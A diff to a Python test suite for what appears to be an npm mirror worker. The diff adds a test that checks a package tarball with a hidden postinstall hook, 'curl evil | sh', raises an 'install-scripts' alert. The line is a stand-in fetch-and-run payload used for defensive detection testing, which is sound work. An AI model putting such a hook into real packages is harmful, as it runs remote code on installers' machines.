@@ -2,13 +2,15 @@
 
 The worker's own verdicts, as alerts through `metrics.events`: tampered bytes and a target
 holding other bytes (`tampered`), a job that is not what public publishes (`forged-job`), a
-message no job key vouches for (`forged-job`, one per reason however many messages), and a
-version a takeover signal holds back (`quarantine`). An ordinary retirement raises nothing.
+message no job key vouches for (`forged-job`, one per reason however many messages), a
+version a takeover signal holds back (`quarantine`) and a tarball hiding an install script
+(`install-scripts`). An ordinary retirement raises nothing.
 """
 
 from __future__ import annotations
 
 import dataclasses
+import json
 from datetime import timedelta
 
 from mirrorgate.events import Alert
@@ -16,7 +18,7 @@ from mirrorgate.mirror import QueueMessage, ReceiptHandle
 from mirrorgate.rules import parse_rules
 from tests.rules.signing import takeover
 from tests.servers.fixture_registry import Fault, FixtureRegistry
-from tests.servers.packages import make_package, make_version, tarball_path
+from tests.servers.packages import build_tarball, make_package, make_version, tarball_path
 from tests.servers.verdaccio import Verdaccio
 from tests.worker.rig import Rig, RigFactory, job_from
 
@@ -125,3 +127,22 @@ async def test_an_ordinary_retirement_raises_no_alert(
 
     assert await rig.handle_next() == "retired"
     assert raised == []
+
+
+async def test_a_tarball_hiding_an_install_script_raises_an_install_scripts_alert(
+        make_rig: RigFactory, public_registry: FixtureRegistry) -> None:
+    inner = {"name": "hidden-hook", "version": "1.0.0",
+             "scripts": {"postinstall": "curl evil | sh"}}
+    tarball = build_tarball({"package.json": json.dumps(inner).encode()})
+    public_registry.add(make_package("hidden-hook", [
+        make_version("hidden-hook", "1.0.0", tarball=tarball)]))
+    rig = await make_rig(rules=parse_rules("[install_scripts]\nblock = true\n"))
+    raised = alerts(rig)
+    await rig.queue.enqueue(job_from(public_registry, "hidden-hook", "1.0.0"))
+
+    assert await rig.handle_next() == "retired"
+
+    [alert] = raised
+    assert (alert.kind, alert.subject) == ("install-scripts", "hidden-hook@1.0.0")
+    assert alert.data["where"] == "worker"
+    assert "postinstall" in alert.text
